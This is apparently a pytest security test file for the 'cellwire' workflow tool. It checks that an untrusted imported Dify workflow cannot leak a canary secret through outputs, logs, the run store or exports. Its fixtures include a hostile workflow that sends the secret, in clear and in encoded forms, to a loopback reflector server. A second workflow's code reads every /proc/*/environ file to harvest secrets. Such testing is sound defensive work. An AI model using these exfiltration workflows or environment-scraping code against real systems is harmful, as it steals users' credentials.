"""The leak test: an imported Dify file declares a secret the process has in its environment and
tries to send it out, in clear and disguised, to a real server on loopback and into everything
a run writes. Not granted, the value goes nowhere. Granted, the request carries it (the user
granted it) but no output, stream, store file, printed line or export shows any of its forms.
"""

from __future__ import annotations

import base64
import json
import os
import subprocess
import sys
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from urllib.parse import quote

import pytest

import cellwire
from cellwire.engine.events import StreamChunk
from cellwire.formats.dify import dump_dify
from cellwire.formats.python_export import export_python
from cellwire.runner import Runner
from cellwire.services.sandbox import sandbox_unavailable
from cellwire.services.secrets import resolve_grants
from cellwire.store import RunStore

CANARY_NAME = "CELLWIRE_LEAK_CANARY"
CANARY = "cw-Canary-7d1e5bQ2x9Zt"


def forms(value: str) -> dict[str, str]:
    """Every disguise the workflow or the server tries, by name."""
    raw = value.encode()
    return {
        "clear": value, "reversed": value[::-1], "upper": value.upper(),
        "lower": value.lower(), "swapped": value.swapcase(),
        "base64": base64.b64encode(raw).decode(),
        "base64 unpadded": base64.b64encode(raw).decode().rstrip("="),
        "base64 url-safe": base64.urlsafe_b64encode(raw).decode(),
        "base64 of the reverse": base64.b64encode(raw[::-1]).decode(),
        "basic auth": base64.b64encode(b"user:" + raw).decode(),
        "hex": raw.hex(), "HEX": raw.hex().upper(),
        "url-encoded": quote(value, safe=""), "json": json.dumps(value)[1:-1],
    }


FORMS = forms(CANARY)


def hits(data: bytes | str) -> list[str]:
    """The names of the forms found in ``data`` (case-sensitively, as written)."""
    text = data.decode("utf-8", "replace") if isinstance(data, bytes) else data
    return [name for name, form in FORMS.items() if form in text]


# -- a server that reflects what it is sent, disguised ------------------------------------------


@dataclass
class Reflector:
    url: str = ""
    #: Every request as raw bytes (request line, headers, body).
    received: list[bytes] = field(default_factory=list)


@contextmanager
def reflector() -> Iterator[Reflector]:
    """A real HTTP server on 127.0.0.1 that records each request and answers with the X-Leak
    header's value in every disguise, plus the request's own headers and body, so the run's
    outputs would carry them all back."""
    state = Reflector()

    class Handler(BaseHTTPRequestHandler):
        protocol_version = "HTTP/1.1"

        def _handle(self) -> None:
            length = int(self.headers.get("Content-Length") or 0)
            body = self.rfile.read(length) if length else b""
            state.received.append(self.requestline.encode() + b"\r\n"
                                  + bytes(self.headers) + body)
            leaked = self.headers.get("X-Leak") or ""
            data = json.dumps({"forms": forms(leaked) if leaked else {},
                               "headers": dict(self.headers.items()),
                               "body": body.decode("utf-8", "replace")}).encode()
            self.send_response(200)
            self.send_header("Content-Type", "application/json")
            self.send_header("X-Echo", leaked[::-1])
            self.send_header("Content-Length", str(len(data)))
            self.end_headers()
            self.wfile.write(data)

        do_GET = do_POST = _handle

        def log_message(self, format: str, *args: object) -> None:
            pass

    httpd = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    httpd.daemon_threads = True
    state.url = f"http://127.0.0.1:{httpd.server_address[1]}"
    thread = threading.Thread(target=httpd.serve_forever, kwargs={"poll_interval": 0.02},
                              daemon=True)
    thread.start()
    try:
        yield state
    finally:
        httpd.shutdown()
        httpd.server_close()
        thread.join(5)


# -- the imported file ------------------------------------------------------------------------


def _default(key: str) -> str:
    return (f"          error_strategy: default-value\n"
            f"          default_value:\n"
            f"            - {{key: {key}, type: string, value: ''}}\n")


def leaky_dsl(server: str) -> str:
    """A Dify chatflow that names the canary as a secret and sends it everywhere it can."""
    secret = f"{{{{#env.{CANARY_NAME}#}}}}"
    return f"""\
kind: app
version: 0.3.0
app:
  mode: advanced-chat
  name: leaky
workflow:
  environment_variables:
    - {{id: e1, name: {CANARY_NAME}, value: '', value_type: secret}}
    - {{id: e2, name: REGION, value: eu-west, value_type: string}}
  conversation_variables: []
  features: {{}}
  graph:
    nodes:
      - id: start
        data: {{type: start, title: Start, variables: []}}
      - id: probe
        data:
          type: http-request
          title: Probe
          method: get
          url: "{server}/probe?region={{{{#env.REGION#}}}}"
          authorization: {{type: no-auth}}
          headers: ''
          params: ''
          body: {{type: none, data: []}}
      - id: disguise
        data:
          type: template-transform
          title: Disguise
          variables:
            - {{variable: k, value_selector: [env, {CANARY_NAME}]}}
          template: >-
            clear={{{{ k }}}} rev={{{{ k|reverse }}}} up={{{{ k|upper }}}}
            low={{{{ k|lower }}}} swap={{{{ k.swapcase() }}}}
            hex={{{{ k.encode().hex() }}}} HEX={{{{ k.encode().hex()|upper }}}}
            url={{{{ k|urlencode }}}} json={{{{ k|tojson }}}}
{_default("output")}
      - id: leak
        data:
          type: http-request
          title: Leak
          method: post
          url: "{server}/leak?c={secret}"
          authorization:
            type: api-key
            config: {{type: basic, api_key: "user:{secret}"}}
          headers: "X-Leak:{secret}"
          params: ''
          body:
            type: raw-text
            data: [{{type: text, key: '', value: "{{{{#disguise.output#}}}}"}}]
{_default("body")}
      - id: echo
        data:
          type: llm
          title: Echo
          model: {{provider: openai, name: gpt-4o, mode: chat, completion_params: {{}}}}
          prompt_template:
            - {{role: user, text: "{{{{#disguise.output#}}}} {{{{#leak.body#}}}}"}}
          context: {{enabled: false, variable_selector: []}}
          vision: {{enabled: false}}
{_default("text")}
      - id: answer
        data:
          type: answer
          title: Answer
          answer: "{{{{#disguise.output#}}}} | {{{{#leak.body#}}}} | {{{{#leak.headers#}}}} | {{{{#echo.text#}}}} | {{{{#probe.body#}}}}"
    edges:
      - {{id: a, source: start, target: probe, sourceHandle: source, targetHandle: target}}
      - {{id: b, source: probe, target: disguise, sourceHandle: source, targetHandle: target}}
      - {{id: c, source: disguise, target: leak, sourceHandle: source, targetHandle: target}}
      - {{id: d, source: leak, target: echo, sourceHandle: source, targetHandle: target}}
      - {{id: e, source: echo, target: answer, sourceHandle: source, targetHandle: target}}
"""


@pytest.fixture
def canary_env(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv(CANARY_NAME, CANARY)


@pytest.fixture
def server(monkeypatch: pytest.MonkeyPatch) -> Iterator[Reflector]:
    with reflector() as state:
        # The imported file is untrusted: its HTTP nodes reach loopback only where the user
        # allows it (the exfiltration target stands on 127.0.0.1 here).
        monkeypatch.setenv("CELLWIRE_HTTP_ALLOW", state.url.split("//", 1)[1].split("/")[0])
        yield state


@pytest.fixture
def app(tmp_path: Path, server: Reflector) -> Path:
    path = tmp_path / "leaky.yml"
    path.write_text(leaky_dsl(server.url))
    return path


def store_bytes(db: Path) -> bytes:
    """The store's files as they are on disk: the database, its WAL and shared memory."""
    return b"".join(p.read_bytes() for p in db.parent.glob(db.name + "*"))


def cli(*args: str | Path, env: dict[str, str] | None = None) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-m", "cellwire.cli", *map(str, args)],
                          capture_output=True, text=True, timeout=120, check=False,
                          env={**os.environ, **(env or {})})


def exported(app: Path) -> str:
    return "".join(cli("export", app, "-f", fmt).stdout for fmt in ("yaml", "dify", "python"))


# -- not granted --------------------------------------------------------------------------------


@pytest.mark.usefixtures("canary_env")
def test_not_granted_the_canary_goes_nowhere(tmp_path: Path, server: Reflector, app: Path):
    db = tmp_path / "runs.db"
    done = cli("run", app, "-q", "hi", "--model", "scripted/echo", "--db", db, "--json",
               env={"CELLWIRE_HOME": str(tmp_path / "home")})
    assert done.stdout, done.stderr
    shown = json.loads(done.stdout)
    # The run went on (the nodes that read the secret fell back to their defaults) and
    # reached the server: what it sent was only what it was given.
    assert shown["status"] == "partial-succeeded", shown
    assert [r.split(b" ")[1].split(b"?")[0] for r in server.received] == [b"/probe"]
    assert b"region=eu-west" in server.received[0]
    assert [hits(r) for r in server.received] == [[]]
    assert hits(done.stdout) == [] and hits(done.stderr) == []
    assert hits(store_bytes(db)) == []
    assert hits(exported(app)) == []
    listed = cli("runs", "--json", "--db", db)
    assert listed.returncode == 0 and hits(listed.stdout) == []
    # The store names why: the secret was not granted, and how to grant it.
    store = RunStore(db)
    trace = store.trace(shown["run_id"])
    store.close()
    disguise = trace[trace.node_id == "disguise"].iloc[0]
    assert disguise.status == "exception"
    assert f"env.{CANARY_NAME} was not granted" in disguise.error
    assert f"--secret {CANARY_NAME}" in disguise.error


# -- granted ------------------------------------------------------------------------------------


@pytest.mark.usefixtures("canary_env")
async def test_granted_the_request_gets_it_and_nothing_shows_it(tmp_path: Path,
                                                                server: Reflector, app: Path):
    db = tmp_path / "runs.db"
    workflow = cellwire.load(app)
    seen: list[object] = []
    result = await Runner().arun(
        workflow, {"sys.query": "hi"}, store=db, model="scripted/echo",
        layers=[seen.append], secrets=resolve_grants([CANARY_NAME]))
    assert result.status == cellwire.RunStatus.SUCCEEDED, result.error
    assert result.stored is True
    # The user granted it: the request to the server carries it, as the workflow asked.
    leak = next(r for r in server.received if b"/leak" in r.split(b"\r\n")[0])
    assert {"clear", "reversed", "upper", "hex", "basic auth"} <= set(hits(leak))
    # The server sent every disguise back; the run shows none of them.
    assert result.answer.count("***") >= len(FORMS)
    shown = json.dumps([result.answer, result.outputs, result.error, result.warnings,
                        [e.as_dict() for e in result.events]], default=str)
    assert hits(shown) == [], hits(shown)
    chunks = [e.text for e in seen if isinstance(e, StreamChunk)]
    assert chunks and hits("".join(chunks)) == [] and all(hits(c) == [] for c in chunks)
    assert hits(result.trace.to_json(date_format="iso")) == []
    assert hits(json.dumps(result.state.to_dict())) == []
    assert hits(store_bytes(db)) == []
    assert hits(cellwire.dump(workflow) + dump_dify(workflow) + export_python(workflow)) == []


@pytest.mark.usefixtures("canary_env")
def test_granted_on_the_command_line_nothing_printed_or_stored_shows_it(
        tmp_path: Path, server: Reflector, app: Path):
    db = tmp_path / "runs.db"
    done = cli("run", app, "-q", "hi", "--model", "scripted/echo", "--db", db, "--json",
               "--secret", CANARY_NAME, env={"CELLWIRE_HOME": str(tmp_path / "home")})
    assert done.returncode == 0, done.stderr
    assert json.loads(done.stdout)["status"] == "succeeded"
    assert any("clear" in hits(r) for r in server.received)
    assert hits(done.stdout) == [] and hits(done.stderr) == []
    assert "***" in done.stdout
    assert hits(store_bytes(db)) == []
    assert hits(cli("runs", "--json", "--db", db).stdout) == []
    assert hits(exported(app)) == []


SNOOP = f"""\
cellwire: 1
name: snoop
environment:
  - {{name: {CANARY_NAME}, value_type: secret}}
nodes:
  - {{id: start, type: start}}
  - id: look
    type: code
    code: |
      import os, glob
      def main():
          found = [os.environ.get("{CANARY_NAME}", "")]
          for path in glob.glob("/proc/*/environ"):
              try:
                  found.append(open(path, "rb").read().decode("latin-1"))
              except OSError:
                  pass
          raise RuntimeError("leak: " + " | ".join(found))
  - {{id: end, type: end, outputs: []}}
edges:
  - {{source: start, target: look}}
  - {{source: look, target: end}}
"""


@pytest.mark.usefixtures("canary_env")
@pytest.mark.skipif(sandbox_unavailable() is not None, reason="no sandbox here")
def test_untrusted_code_never_sees_an_ungranted_secret_even_in_its_errors(tmp_path: Path):
    flow = tmp_path / "snoop.yml"
    flow.write_text(SNOOP)
    db = tmp_path / "runs.db"
    done = cli("run", flow, "--json", "--db", db, env={"CELLWIRE_HOME": str(tmp_path / "home")})
    assert done.returncode == 1
    shown = json.loads(done.stdout)
    assert shown["status"] == "failed" and "RuntimeError: leak:" in shown["error"]
    assert hits(done.stdout) == [] and hits(done.stderr) == []
    assert hits(store_bytes(db)) == []
